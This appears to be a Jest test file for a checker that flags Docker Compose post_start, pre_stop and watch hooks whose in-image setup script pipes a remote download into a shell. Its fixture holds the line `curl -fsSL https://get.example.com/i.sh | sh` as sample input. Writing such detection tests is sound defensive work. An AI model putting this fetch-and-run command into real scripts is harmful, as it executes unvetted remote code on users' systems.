import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const SETUP = '#!/bin/sh\nset -e\n';
const FETCHES = `${SETUP}curl -fsSL https://get.example.com/i.sh | sh\n`;

function service(...lines: readonly string[]): string {
  return ['services:', '  api:', '    build: .', ...lines.map((line) => `    ${line}`), ''].join('\n');
}

const BASE: Files = {
  Dockerfile: 'FROM debian:13\nCOPY ops/ /opt/ops/\nUSER 1000\n',
  'compose.yaml': service(),
  'ops/setup': SETUP,
};

const WATCH = ['develop:', '  watch:', '    - path: ./src', '      action: sync+exec', '      target: /src'];
const HOOKS: readonly (readonly [name: string, hook: string])[] = [
  ['post_start', service('post_start: [{command: ["./setup"], working_dir: /opt/ops}]')],
  ['pre_stop', service('pre_stop: [{command: ["./setup"], working_dir: /opt/ops}]')],
  ['watch', service(...WATCH, '      exec: {command: ./setup, working_dir: /opt/ops}')],
];

describe('a hook in a folder of the image', () => {
  it.each(HOOKS)('runs a script there: %s', async (_name, hook) => {
    expect(await failuresOf(BASE, { 'compose.yaml': hook, 'ops/setup': FETCHES })).toEqual(['remote-script-exec']);
    expect(await failuresOf(BASE, { 'compose.yaml': hook, 'ops/setup': `${SETUP}make\n` })).toEqual([]);
  });
});
